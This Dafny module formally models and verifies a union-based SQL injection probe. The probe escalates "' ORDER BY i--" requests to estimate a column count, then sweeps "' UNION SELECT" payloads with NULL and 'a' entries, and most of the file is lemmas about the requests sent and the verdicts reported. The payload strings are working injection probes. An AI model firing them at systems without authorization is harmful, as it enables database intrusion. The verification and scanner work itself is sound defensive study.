/**
 * The union-based probe: find the column count by escalating `ORDER BY i`,
 * then sweep a single string column `'a'` through an all-`NULL` select list.
 */
module Union {
  import opened Wrappers
  import opened Text
  import opened Seqs
  import opened Http

  /** The error signal of the union probe: status 500 or "error" in the lower-cased body. */
  predicate SignalsError(r: Response)
  {
    Contains(Lower(r.text), "error") || r.status == 500
  }

  /** ORDER BY indices run over 1..19. */
  const OrderByLimit := 20

  function OrderByPayload(i: nat): string
  {
    "' ORDER BY " + NatToString(i) + "--"
  }

  function OrderByUrl(t: Target, i: nat): string
  {
    TestUrl(t, OrderByPayload(i))
  }

  /** `["NULL"] * count`. */
  function NullVector(count: nat): seq<string>
  {
    seq(count, _ => "NULL")
  }

  /** The select list tried at position `j`: `'a'` there, `NULL` elsewhere. */
  function UnionVector(count: nat, j: nat): seq<string>
  {
    seq(count, k => if k == j then "'a'" else "NULL")
  }

  function UnionPayload(count: nat, j: nat): string
  {
    "' UNION SELECT " + Join(UnionVector(count, j), ',') + "--"
  }

  /**
   * Every select list tried has exactly `count` comma-separated entries, of
   * which exactly the one at position `j` is `'a'` and every other is `NULL`.
   */
  lemma UnionVectorShape(count: nat, j: nat)
    requires j < count
    ensures Split(Join(UnionVector(count, j), ','), ',') == UnionVector(count, j)
    ensures |UnionVector(count, j)| == count
    ensures forall k :: 0 <= k < count ==> (UnionVector(count, j)[k] == "'a'" <==> k == j)
    ensures forall k :: 0 <= k < count && k != j ==> UnionVector(count, j)[k] == "NULL"
  {
    var v := UnionVector(count, j);
    forall k | 0 <= k < count
      ensures ',' !in v[k]
    {
      assert v[k] == "'a'" || v[k] == "NULL";
    }
    SplitJoin(v, ',');
  }

  /** How one sweep over the select-list positions ended. */
  datatype SweepOutcome =
    | Accepted(payload: string)  // a UNION request answered without an error signal
    | Exhausted                  // every position was rejected
    | Failed                     // a UNION request raised

  datatype Sweep = Sweep(outcome: SweepOutcome, sent: seq<string>)

  function PrependSweep(earlier: seq<string>, s: Sweep): Sweep
  {
    Sweep(s.outcome, earlier + s.sent)
  }

  /** The sweep for a column count, from position `j` on. */
  function UnionSweep(o: Oracle, t: Target, count: nat, j: nat): Sweep
    decreases count - j
  {
    if j >= count then Sweep(Exhausted, [])
    else
      var url := TestUrl(t, UnionPayload(count, j));
      match o(url)
      case None => Sweep(Failed, [url])
      case Some(r) =>
        if !SignalsError(r) then Sweep(Accepted(UnionPayload(count, j)), [url])
        else PrependSweep([url], UnionSweep(o, t, count, j + 1))
  }

  /** What one ORDER BY index leads to: the probe's final answer, or requests sent before the next index. */
  datatype Step = Done(probe: Probe) | Next(sent: seq<string>)

  /**
   * One index of the ORDER BY loop. A raised ORDER BY request moves on to
   * `i + 1`; so does a raised UNION request, because in the source that
   * exception escapes to the handler of the ORDER BY loop. An error signal
   * starts the sweep for `i - 1` columns, whose acceptance or exhaustion ends
   * the probe.
   */
  function OrderByAt(o: Oracle, t: Target, i: nat): Step
    requires 1 <= i
  {
    var url := OrderByUrl(t, i);
    match o(url)
    case None => Next([url])
    case Some(r) =>
      if !SignalsError(r) then Next([url])
      else
        var sweep := UnionSweep(o, t, i - 1, 0);
        match sweep.outcome
        case Accepted(payload) => Done(Probe(Verdict(true, payload), [url] + sweep.sent))
        case Exhausted => Done(Probe(NotVulnerable, [url] + sweep.sent))
        case Failed => Next([url] + sweep.sent)
  }

  /** The ORDER BY escalation from index `i` on, up to 19. */
  function UnionFrom(o: Oracle, t: Target, i: nat): Probe
    requires 1 <= i
    decreases OrderByLimit - i
  {
    if i >= OrderByLimit then Probe(NotVulnerable, [])
    else
      match OrderByAt(o, t, i)
      case Done(p) => p
      case Next(sent) => Prepend(sent, UnionFrom(o, t, i + 1))
  }

  function UnionBased(o: Oracle, t: Target): Probe
  {
    UnionFrom(o, t, 1)
  }

  /**
   * The inner loop of `test_union_based_injection` for one column count:
   * set position `j` to `'a'`, send the UNION payload, and put `NULL` back
   * when the answer signals an error.
   */
  method SweepColumns(o: Oracle, t: Target, count: nat) returns (outcome: SweepOutcome, swept: seq<string>)
    ensures Sweep(outcome, swept) == UnionSweep(o, t, count, 0)
  {
    var columns := new string[count](_ => "NULL");
    swept := [];
    for j := 0 to count
      invariant columns[..] == NullVector(count)
      invariant UnionSweep(o, t, count, 0) == PrependSweep(swept, UnionSweep(o, t, count, j))
    {
      MarkColumn(count, j);
      columns[j] := "'a'";
      var payload := "' UNION SELECT " + Join(columns[..], ',') + "--";
      var unionUrl := TestUrl(t, payload);
      var answer := o(unionUrl);
      if answer.None? {
        return Failed, swept + [unionUrl];
      }
      if !SignalsError(answer.value) {
        return Accepted(payload), swept + [unionUrl];
      }
      SweepRejectedStep(o, t, count, j, swept);
      swept := swept + [unionUrl];
      columns[j] := "NULL";
    }
    outcome := Exhausted;
  }

  /** Setting position `j` of the all-NULL list to `'a'` gives the list tried at `j`, and resetting it gives all NULL back. */
  lemma MarkColumn(count: nat, j: nat)
    requires j < count
    ensures NullVector(count)[j := "'a'"] == UnionVector(count, j)
    ensures UnionVector(count, j)[j := "NULL"] == NullVector(count)
  {
  }

  lemma SweepRejectedStep(o: Oracle, t: Target, count: nat, j: nat, swept: seq<string>)
    requires j < count
    requires RejectedAt(o, t, count, j)
    ensures PrependSweep(swept, UnionSweep(o, t, count, j))
         == PrependSweep(swept + [TestUrl(t, UnionPayload(count, j))], UnionSweep(o, t, count, j + 1))
  {
  }

  /**
   * One iteration of the ORDER BY loop of `test_union_based_injection`: send
   * `ORDER BY i`; on an error signal run the sweep for `i - 1` columns. The
   * probe is `done` when the sweep accepted a payload or was exhausted (the
   * source's `return` and `break`); a raised ORDER BY or UNION request, like
   * an answer without an error signal, goes on with `i + 1`.
   */
  method OrderByStep(o: Oracle, t: Target, i: nat) returns (done: bool, v: Verdict, stepSent: seq<string>)
    requires 1 <= i
    ensures OrderByAt(o, t, i) == if done then Done(Probe(v, stepSent)) else Next(stepSent)
  {
    var url := OrderByUrl(t, i);
    var response := o(url);
    if response.None? || !SignalsError(response.value) {
      return false, NotVulnerable, [url];
    }
    var outcome, swept := SweepColumns(o, t, i - 1);
    stepSent := [url] + swept;
    match outcome {
      case Accepted(payload) =>
        return true, Verdict(true, payload), stepSent;
      case Failed =>
        return false, NotVulnerable, stepSent;
      case Exhausted =>
        return true, NotVulnerable, stepSent;
    }
  }

  /** `test_union_based_injection`. */
  method TestUnionBasedInjection(o: Oracle, t: Target) returns (v: Verdict, sent: seq<string>)
    ensures Probe(v, sent) == UnionBased(o, t)
  {
    sent := [];
    for i := 1 to OrderByLimit
      invariant UnionBased(o, t) == Prepend(sent, UnionFrom(o, t, i))
    {
      var done, verdict, stepSent := OrderByStep(o, t, i);
      PrependPrepend(sent, stepSent, UnionFrom(o, t, i + 1));
      sent := sent + stepSent;
      if done {
        return verdict, sent;
      }
    }
    v := NotVulnerable;
  }

  /** An ORDER BY index whose request answered with an error signal. */
  predicate OrderByErrors(o: Oracle, t: Target, i: nat)
  {
    match o(OrderByUrl(t, i))
    case Some(r) => SignalsError(r)
    case None => false
  }

  /** The `n` ORDER BY URLs for indices `first`, `first + 1`, and so on. */
  function OrderByUrls(t: Target, first: nat, n: nat): seq<string>
  {
    seq(n, k requires 0 <= k => OrderByUrl(t, first + k))
  }

  /** The first index from `i` on, below 20, whose ORDER BY request errs; 20 when none does. */
  function FirstOrderByError(o: Oracle, t: Target, i: nat): (n: nat)
    requires i <= OrderByLimit
    ensures i <= n <= OrderByLimit
    ensures forall m :: i <= m < n ==> !OrderByErrors(o, t, m)
    ensures n < OrderByLimit ==> OrderByErrors(o, t, n)
    decreases OrderByLimit - i
  {
    if i == OrderByLimit || OrderByErrors(o, t, i) then i else FirstOrderByError(o, t, i + 1)
  }

  /**
   * The column-count estimate: one less than the first ORDER BY index in
   * 1..19 whose answer signals an error, or `None` when none does.
   */
  function ColumnCount(o: Oracle, t: Target): (count: Option<nat>)
    ensures count.Some? ==>
              && count.value < OrderByLimit - 1
              && OrderByErrors(o, t, count.value + 1)
              && forall i :: 1 <= i <= count.value ==> !OrderByErrors(o, t, i)
    ensures count.None? ==> forall i :: 1 <= i < OrderByLimit ==> !OrderByErrors(o, t, i)
  {
    var n := FirstOrderByError(o, t, 1);
    if n < OrderByLimit then Some(n - 1) else None
  }

  /** An ORDER BY index whose answer signals no error only adds its own URL. */
  lemma QuietOrderByContinues(o: Oracle, t: Target, i: nat)
    requires 1 <= i < OrderByLimit
    requires !OrderByErrors(o, t, i)
    ensures UnionFrom(o, t, i) == Prepend([OrderByUrl(t, i)], UnionFrom(o, t, i + 1))
  {
    assert OrderByAt(o, t, i) == Next([OrderByUrl(t, i)]);
  }

  lemma OrderByRangeCons(t: Target, i: nat, n: nat)
    ensures [OrderByUrl(t, i)] + OrderByUrls(t, i + 1, n) == OrderByUrls(t, i, n + 1)
  {
  }

  /** From index `i` on, with no error signal up to `stop`, the probe only sends ORDER BY requests. */
  lemma {:induction false} UnionFromQuiet(o: Oracle, t: Target, i: nat, stop: nat)
    requires 1 <= i <= stop <= OrderByLimit
    requires forall m :: i <= m < stop ==> !OrderByErrors(o, t, m)
    ensures UnionFrom(o, t, i) == Prepend(OrderByUrls(t, i, stop - i), UnionFrom(o, t, stop))
    decreases stop - i
  {
    if i < stop {
      QuietOrderByContinues(o, t, i);
      UnionFromQuiet(o, t, i + 1, stop);
      PrependPrepend([OrderByUrl(t, i)], OrderByUrls(t, i + 1, stop - (i + 1)), UnionFrom(o, t, stop));
      OrderByRangeCons(t, i, stop - (i + 1));
    } else {
      assert OrderByUrls(t, i, stop - i) == [];
    }
  }

  /** A UNION request answered without an error signal. */
  predicate AcceptedAt(o: Oracle, t: Target, count: nat, j: nat)
  {
    match o(TestUrl(t, UnionPayload(count, j)))
    case Some(r) => !SignalsError(r)
    case None => false
  }

  /** A UNION request answered with an error signal. */
  predicate RejectedAt(o: Oracle, t: Target, count: nat, j: nat)
  {
    match o(TestUrl(t, UnionPayload(count, j)))
    case Some(r) => SignalsError(r)
    case None => false
  }

  /**
   * The sweep from position `j` accepts the first position whose UNION
   * request answers without an error signal, is exhausted exactly when every
   * position is rejected, and fails at the first raised request.
   */
  lemma {:induction false} UnionSweepFirstAccepted(o: Oracle, t: Target, count: nat, j: nat)
    ensures var s := UnionSweep(o, t, count, j);
      && (s.outcome.Accepted? ==>
            exists k :: j <= k < count && s.outcome.payload == UnionPayload(count, k) && AcceptedAt(o, t, count, k)
              && forall m :: j <= m < k ==> RejectedAt(o, t, count, m))
      && (s.outcome == Exhausted <==> forall m :: j <= m < count ==> RejectedAt(o, t, count, m))
      && (s.outcome == Failed ==>
            exists k :: j <= k < count && o(TestUrl(t, UnionPayload(count, k))).None?
              && forall m :: j <= m < k ==> RejectedAt(o, t, count, m))
  {
    SweepAcceptsFirst(o, t, count, j);
    SweepExhausted(o, t, count, j);
    SweepFailsFirst(o, t, count, j);
  }

  lemma {:induction false} SweepAcceptsFirst(o: Oracle, t: Target, count: nat, j: nat)
    ensures var s := UnionSweep(o, t, count, j);
      s.outcome.Accepted? ==>
        exists k :: j <= k < count && s.outcome.payload == UnionPayload(count, k) && AcceptedAt(o, t, count, k)
          && forall m :: j <= m < k ==> RejectedAt(o, t, count, m)
    decreases count - j
  {
    if j < count {
      match o(TestUrl(t, UnionPayload(count, j)))
      case None =>
      case Some(r) =>
        if SignalsError(r) {
          SweepAcceptsFirst(o, t, count, j + 1);
          assert RejectedAt(o, t, count, j);
        } else {
          assert AcceptedAt(o, t, count, j);
        }
    }
  }

  lemma {:induction false} SweepExhausted(o: Oracle, t: Target, count: nat, j: nat)
    ensures UnionSweep(o, t, count, j).outcome == Exhausted <==> forall m :: j <= m < count ==> RejectedAt(o, t, count, m)
    decreases count - j
  {
    if j < count {
      SweepExhausted(o, t, count, j + 1);
      match o(TestUrl(t, UnionPayload(count, j)))
      case None =>
        assert !RejectedAt(o, t, count, j);
      case Some(r) =>
        if SignalsError(r) {
          assert RejectedAt(o, t, count, j);
        } else {
          assert !RejectedAt(o, t, count, j);
        }
    }
  }

  lemma {:induction false} SweepFailsFirst(o: Oracle, t: Target, count: nat, j: nat)
    ensures var s := UnionSweep(o, t, count, j);
      s.outcome == Failed ==>
        exists k :: j <= k < count && o(TestUrl(t, UnionPayload(count, k))).None?
          && forall m :: j <= m < k ==> RejectedAt(o, t, count, m)
    decreases count - j
  {
    if j < count {
      match o(TestUrl(t, UnionPayload(count, j)))
      case None =>
      case Some(r) =>
        if SignalsError(r) {
          SweepFailsFirst(o, t, count, j + 1);
          assert RejectedAt(o, t, count, j);
        }
    }
  }

  function SweepVerdict(outcome: SweepOutcome): Verdict
  {
    match outcome
    case Accepted(payload) => Verdict(true, payload)
    case _ => NotVulnerable
  }

  /** No ORDER BY index up to 19 errs: only the nineteen ORDER BY requests are sent and nothing is reported. */
  lemma UnionWithoutColumnCount(o: Oracle, t: Target)
    requires ColumnCount(o, t).None?
    ensures UnionBased(o, t) == Probe(NotVulnerable, OrderByUrls(t, 1, OrderByLimit - 1))
  {
    UnionFromQuiet(o, t, 1, OrderByLimit);
    assert OrderByUrls(t, 1, OrderByLimit - 1) + [] == OrderByUrls(t, 1, OrderByLimit - 1);
  }

  /** An erring ORDER BY index whose sweep raises nothing ends the probe with the sweep's verdict. */
  lemma ErringOrderByEnds(o: Oracle, t: Target, i: nat)
    requires 1 <= i < OrderByLimit
    requires OrderByErrors(o, t, i)
    requires UnionSweep(o, t, i - 1, 0).outcome != Failed
    ensures var sweep := UnionSweep(o, t, i - 1, 0);
      UnionFrom(o, t, i) == Probe(SweepVerdict(sweep.outcome), [OrderByUrl(t, i)] + sweep.sent)
  {
    var sweep := UnionSweep(o, t, i - 1, 0);
    assert OrderByAt(o, t, i) == Done(Probe(SweepVerdict(sweep.outcome), [OrderByUrl(t, i)] + sweep.sent));
  }

  /**
   * When ORDER BY finds a column count and its sweep raises nothing, the
   * probe sends the ORDER BY requests for 1..count+1, then the sweep's UNION
   * requests, and reports what the sweep found.
   */
  lemma UnionWithColumnCount(o: Oracle, t: Target, count: nat)
    requires ColumnCount(o, t) == Some(count)
    requires UnionSweep(o, t, count, 0).outcome != Failed
    ensures var sweep := UnionSweep(o, t, count, 0);
      UnionBased(o, t) == Probe(SweepVerdict(sweep.outcome), OrderByUrls(t, 1, count + 1) + sweep.sent)
  {
    var sweep := UnionSweep(o, t, count, 0);
    UnionFromQuiet(o, t, 1, count + 1);
    ErringOrderByEnds(o, t, count + 1);
    OrderByUrlsSnoc(t, count, sweep.sent);
  }

  lemma OrderByUrlsSnoc(t: Target, n: nat, rest: seq<string>)
    ensures OrderByUrls(t, 1, n) + ([OrderByUrl(t, n + 1)] + rest) == OrderByUrls(t, 1, n + 1) + rest
  {
    assert OrderByUrls(t, 1, n) + [OrderByUrl(t, n + 1)] == OrderByUrls(t, 1, n + 1);
  }

  /**
   * A UNION request that raises does not end the probe: the escalation goes
   * on with the next ORDER BY index, after the requests already sent.
   */
  lemma UnionFailedSweepContinues(o: Oracle, t: Target, i: nat)
    requires 1 <= i < OrderByLimit
    requires OrderByErrors(o, t, i)
    requires UnionSweep(o, t, i - 1, 0).outcome == Failed
    ensures UnionFrom(o, t, i) == Prepend([OrderByUrl(t, i)] + UnionSweep(o, t, i - 1, 0).sent, UnionFrom(o, t, i + 1))
  {
  }

  /** ORDER BY 1 already errs: zero columns, no UNION request is sent and the probe reports nothing. */
  lemma UnionZeroColumns(o: Oracle, t: Target)
    requires ColumnCount(o, t) == Some(0)
    ensures UnionBased(o, t) == Probe(NotVulnerable, [OrderByUrl(t, 1)])
  {
    UnionWithColumnCount(o, t, 0);
    assert OrderByUrls(t, 1, 1) == [OrderByUrl(t, 1)];
  }

  /** Every payload the probe reports is a UNION select list of fewer than 19 columns with one `'a'`. */
  lemma {:induction false} UnionPayloadReported(o: Oracle, t: Target, i: nat)
    requires 1 <= i
    ensures UnionFrom(o, t, i).verdict.vulnerable ==>
      exists count: nat, j: nat :: j < count < OrderByLimit - 1 && UnionFrom(o, t, i).verdict.payload == UnionPayload(count, j)
    ensures !UnionFrom(o, t, i).verdict.vulnerable ==> UnionFrom(o, t, i).verdict == NotVulnerable
    decreases OrderByLimit - i
  {
    if i < OrderByLimit {
      UnionPayloadReported(o, t, i + 1);
      var count := i - 1;
      var sweep := UnionSweep(o, t, count, 0);
      UnionSweepFirstAccepted(o, t, count, 0);
      match o(OrderByUrl(t, i))
      case None =>
      case Some(r) =>
        if SignalsError(r) && sweep.outcome.Accepted? {
          assert UnionFrom(o, t, i).verdict == Verdict(true, sweep.outcome.payload);
          var j :| 0 <= j < count && sweep.outcome.payload == UnionPayload(count, j);
          assert j < count < OrderByLimit - 1;
        }
    }
  }
}
